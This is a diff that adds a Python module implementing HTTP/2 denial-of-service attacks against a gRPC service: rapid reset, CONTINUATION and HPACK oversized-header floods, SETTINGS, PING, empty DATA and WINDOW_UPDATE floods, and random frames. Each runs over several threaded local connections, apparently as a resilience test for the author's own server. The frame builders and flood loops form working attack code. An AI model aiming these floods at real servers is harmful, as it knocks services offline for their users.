@@ -1,0 +1,140 @@
+"""Attacks by frames of HTTP/2 that no client library sends."""
+
+import contextlib
+import random
+import select
+import socket
+import ssl
+import threading
+
+import hpack
+from client import SERVICE
+
+MEBIBYTE = 1 << 20
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_HEADERS = 4
+FRAME_BYTES = 16384
+CALL = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", f"/{SERVICE.full_name}/ApplyRotary".encode()),
+        (b":authority", b"test"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def block(headers):
+    """A header block that does not depend on the blocks before it."""
+    return hpack.Encoder().encode([(name, value, True) for name, value in headers], huffman=False)
+
+
+class Target:
+    """A server, or a front with a certificate of `authority`."""
+
+    def __init__(self, port, authority=None):
+        self._port = port
+        self._tls = authority and ssl.create_default_context(cafile=authority)
+        if self._tls:
+            self._tls.set_alpn_protocols(["h2"])
+
+    def connect(self, number):
+        """Attackers have addresses of their own: the honest caller's is 127.0.0.1."""
+        connection = socket.create_connection(("127.0.0.1", self._port), 5, (f"127.0.0.{2 + number}", 0))
+        if self._tls:
+            connection = self._tls.wrap_socket(connection, server_hostname="127.0.0.1")
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS))
+        return connection
+
+
+def flood(target, stop, make, reads=False):
+    """Sends what the iterator make() gives on four connections. Connects again whenever one ends."""
+    def run(number):
+        while not stop.is_set():
+            with contextlib.suppress(OSError), target.connect(number) as connection:
+                for data in make():
+                    connection.sendall(data)
+                    while reads and select.select([connection], [], [], 0)[0] and connection.recv(MEBIBYTE):
+                        pass
+                    if stop.is_set():
+                        break
+            stop.wait(0.01)
+    return [threading.Thread(target=run, args=(number,)) for number in range(4)]
+
+
+def repeated(*data):
+    while True:
+        yield from data
+
+
+def rapid_reset(target, stop):
+    """Calls that are reset at once."""
+    headers = block(CALL)
+
+    def make():
+        for begin in range(1, 1 << 31, 200):
+            yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8)))
+                           for stream in range(begin, begin + 200, 2))
+    return flood(target, stop, make, reads=True)
+
+
+def continuation_flood(target, stop):
+    """Headers without an end, in CONTINUATION frames."""
+    more = frame(CONTINUATION, 0, 1, block([(b"x", b"y")] * (FRAME_BYTES // 5)))
+
+    def make():
+        yield frame(HEADERS, 0, 1, block(CALL))
+        yield from repeated(more * 16)
+    return flood(target, stop, make)
+
+
+def hpack_continuation(target, stop):
+    """One header of 64 MiB, in CONTINUATION frames."""
+    size = 64 * MEBIBYTE
+    begin = block(CALL) + b"\0\1x" + hpack.hpack.encode_integer(size, 7)
+    more = frame(CONTINUATION, 0, 1, b"y" * FRAME_BYTES)
+
+    def make():
+        yield frame(HEADERS, 0, 1, bytes(begin))
+        for _ in range(size // FRAME_BYTES // 16):
+            yield more * 16
+        yield frame(CONTINUATION, END_HEADERS, 1)
+    return flood(target, stop, make)
+
+
+def settings_flood(target, stop):
+    """SETTINGS whose acknowledgements are not read."""
+    return flood(target, stop, lambda: repeated(frame(SETTINGS) * 1000))
+
+
+def ping_flood(target, stop):
+    """Pings whose answers are not read."""
+    return flood(target, stop, lambda: repeated(frame(PING, 0, 0, bytes(8)) * 1000))
+
+
+def empty_data(target, stop):
+    """DATA frames without data."""
+    def make():
+        yield frame(HEADERS, END_HEADERS, 1, block(CALL))
+        yield from repeated(frame(DATA, 0, 1) * 1000)
+    return flood(target, stop, make, reads=True)
+
+
+def window_updates(target, stop):
+    """Windows that grow by one byte at a time."""
+    def make():
+        yield frame(HEADERS, END_HEADERS, 1, block(CALL))
+        yield from repeated(frame(WINDOW_UPDATE, 0, 1, bytes((0, 0, 0, 1))) * 1000)
+    return flood(target, stop, make, reads=True)
+
+
+def random_frames(target, stop):
+    """Frames of random types, flags, streams and contents."""
+    chance = random.Random(1)
+
+    def make():
+        for _ in range(100):
+            yield frame(chance.randrange(12), chance.randrange(256), chance.randrange(4), chance.randbytes(chance.randrange(40)))
+    return flood(target, stop, make, reads=True)
+
+
+ATTACKS = (rapid_reset, continuation_flood, hpack_continuation, settings_flood, ping_flood, empty_data, window_updates,
+           random_frames)
